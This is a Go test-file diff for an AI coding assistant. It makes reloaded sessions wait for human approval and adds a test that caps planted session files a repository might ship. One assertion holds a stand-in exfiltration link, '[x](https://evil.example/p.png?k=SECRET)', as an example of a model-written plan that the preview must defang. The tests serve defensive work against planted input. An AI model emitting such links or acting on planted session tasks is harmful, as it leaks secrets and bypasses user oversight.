@@ -3,6 +3,7 @@ package commands_test
 import (
 	"context"
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -428,7 +429,8 @@ func TestRetryOnlyTheFailedEdits(t *testing.T) {
 }
 
 // Threat row "checkpoint restore": a session reloaded from .aide/sessions
-// re-derives its plan; the stale plan is never replayed to the editor.
+// re-derives its plan, which waits for approval; the stale plan is never
+// replayed to the editor.
 func TestReloadedSessionRederivesItsPlan(t *testing.T) {
 	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo},
 		archReplies: []modeltest.Reply{{Text: plan("1. STALE-PLAN: in `main.go`, print goodbye.")}}})
@@ -454,9 +456,17 @@ func TestReloadedSessionRederivesItsPlan(t *testing.T) {
 	if _, err := e.exec(commands.CmdApprovePlan, map[string]any{"session": id}); err != nil {
 		t.Fatal(err)
 	}
+	// The plan derived again is shown and waits for approval: a session
+	// file can be planted, its task is never run straight through.
+	if reqs := e.arch.Requests(); len(reqs) != 2 || hasTools(reqs[1]) || e.state(id) != commands.StateWaiting {
+		t.Fatalf("calls = %d, state %q; want the architect asked again (no tools) and the plan waiting", len(reqs), e.state(id))
+	}
+	if _, err := e.exec(commands.CmdApprovePlan, map[string]any{"session": id}); err != nil {
+		t.Fatal(err)
+	}
 	reqs := e.arch.Requests()
-	if len(reqs) != 3 || hasTools(reqs[1]) {
-		t.Fatalf("calls = %d; want the architect asked again (no tools) before the editor", len(reqs))
+	if len(reqs) != 3 {
+		t.Fatalf("calls = %d; want the editor after the second approval", len(reqs))
 	}
 	sys := systemOf(reqs[2])
 	if strings.Contains(sys, "STALE-PLAN") || !strings.Contains(sys, "FRESH-PLAN") {
@@ -672,5 +682,33 @@ func TestModelPlanCannotMakeThePreviewFetch(t *testing.T) {
 	}
 	if !strings.Contains(string(doc), "[x](https://evil.example/p.png?k=SECRET)") {
 		t.Errorf("the plan's text is lost, not defanged:\n%s", doc)
+	}
+}
+
+// A repository can ship .aide/sessions: only the newest session files are
+// read, each task is cut, and aide.sessions stays bounded.
+func TestPlantedSessionFilesAreBounded(t *testing.T) {
+	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}})
+	big := strings.Repeat("x", 100_000)
+	for i := 0; i < commands.MaxReloadedSessions+20; i++ {
+		id := fmt.Sprintf("20260101-%06d-abcdef", i)
+		writeFile(t, e.root, ".aide/sessions/"+id+".json",
+			`{"session":"`+id+`","kind":"architect","task":"`+big+`","state":"waiting for approval","createdAt":"2026-01-01T00:00:00Z","architectModel":"arch/big","editorModel":"arch/big"}`)
+	}
+	e.eng = e.newEngine()
+	list := e.eng.Sessions()
+	if len(list) != commands.MaxReloadedSessions {
+		t.Fatalf("%d sessions loaded, want the newest %d", len(list), commands.MaxReloadedSessions)
+	}
+	if list[0].Session != fmt.Sprintf("20260101-%06d-abcdef", 20) {
+		t.Fatalf("not the newest: the oldest kept is %s", list[0].Session)
+	}
+	for _, s := range list {
+		if len(s.Task) > 4*commands.MaxListedTaskChars+10 {
+			t.Fatalf("a task of %d bytes listed", len(s.Task))
+		}
+	}
+	if !strings.Contains(strings.Join(e.eng.LoadProblems, "\n"), "only the newest") {
+		t.Fatalf("load problems: %v", e.eng.LoadProblems)
 	}
 }
